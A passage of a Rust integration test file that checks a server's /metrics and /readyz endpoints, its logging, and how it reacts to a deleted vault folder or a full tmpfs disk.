    assert!(serving.raw(b"GET /metrics HTTP/1.1\r\nHost: elsewhere\r\n\r\n").contains(" 421 "));

    let find = "from prometheus_client.parser import text_string_to_metric_families";
    if output_of(Command::new("python3").args(["-c", find])).is_none() {
        println!("SKIP there is no prometheus_client of Python here");
        return;
    }
    let parse = format!(
        "{find}\nimport sys\nprint(len(list(text_string_to_metric_families(sys.stdin.read()))))"
    );
    let mut python = Command::new("python3");
    python.args(["-c", &parse]).stdout(Stdio::piped()).stderr(Stdio::piped());
    let said = cmd::feed(python, text);
    assert_eq!(said.code, 0, "{}", said.err);
    assert!(said.text().trim().parse::<u32>().unwrap() >= 10, "{}", said.text());
}

/// HEALTH-3, HEALTH-4: the folder is deleted under a running server.
#[test]
fn a_deleted_folder_is_told_at_once_and_the_end_claims_nothing() {
    let home = Home::new();
    let serving = Serving::start(&home, &[]);
    create(&mut serving.client(), "a", "1");
    std::fs::remove_dir_all(home.vault()).unwrap();
    serving.hear_words(&["ERROR", "not ready"]);
    assert!(serving.get("/readyz").starts_with("HTTP/1.1 503"));
    let metrics = serving.get("/metrics");
    assert!(metrics.contains("\nstrongroom_ready 0\n"), "{metrics}");
    serving.signal("TERM");
    let (_, log) = serving.end();
    let end = log.join("\n");
    assert!(end.contains("not closed cleanly") && !end.contains("nothing is lost"), "{end}");
    assert_eq!(log.iter().filter(|line| line.contains("not ready")).count(), 1, "{end}");
}

/// A small file system of its own, if one can be mounted here. Unmounted when dropped.
struct Mounted(PathBuf);

impl Mounted {
    fn new(at: &Path, size: &str) -> Option<Self> {
        std::fs::create_dir(at).unwrap();
        let options = format!("size={size},mode=700");
        let mut mount = Command::new("mount");
        mount.args(["-t", "tmpfs", "-o", &options, "tmpfs"]).arg(at).stderr(Stdio::null());
        mount.status().is_ok_and(|status| status.success()).then(|| Self(at.to_path_buf()))
    }
}

impl Drop for Mounted {
    fn drop(&mut self) {
        let _ended = Command::new("umount").arg("-l").arg(&self.0).status();
    }
}

/// HEALTH-1, HEALTH-3: a full disk is not ready, and each change is one line.
#[test]
fn health_follows_the_disk_and_each_change_is_told_once() {
    let home = Home::new();
    let Some(mounted) = Mounted::new(&home.path().join("small"), "256m") else {
        println!("SKIP no file system can be mounted here");
        return;
    };
    let vault = mounted.0.join("vault");
    let serving = Serving::start(&home, &["--vault", vault.to_str().unwrap()]);
    assert!(serving.get("/readyz").starts_with("HTTP/1.1 200"));
    let filler = mounted.0.join("filler");
    let mut file = std::fs::File::create(&filler).unwrap();
    let block = vec![1; 1 << 20];
    while file.write_all(&block).is_ok() {}
    drop(file);
    let line = serving.hear_words(&["ERROR", "not ready", "no space"]);
    assert!(serving.get("/readyz").starts_with("HTTP/1.1 503"), "{line}");
    std::fs::remove_file(&filler).unwrap();
    serving.hear_words(&["WARN", "ready again"]);
    assert!(serving.get("/readyz").starts_with("HTTP/1.1 200"));
    serving.signal("TERM");
    let (code, log) = serving.end();
    assert_eq!(code, 0);
    assert_eq!(log.iter().filter(|line| line.contains("not ready")).count(), 1, "{log:#?}");
}
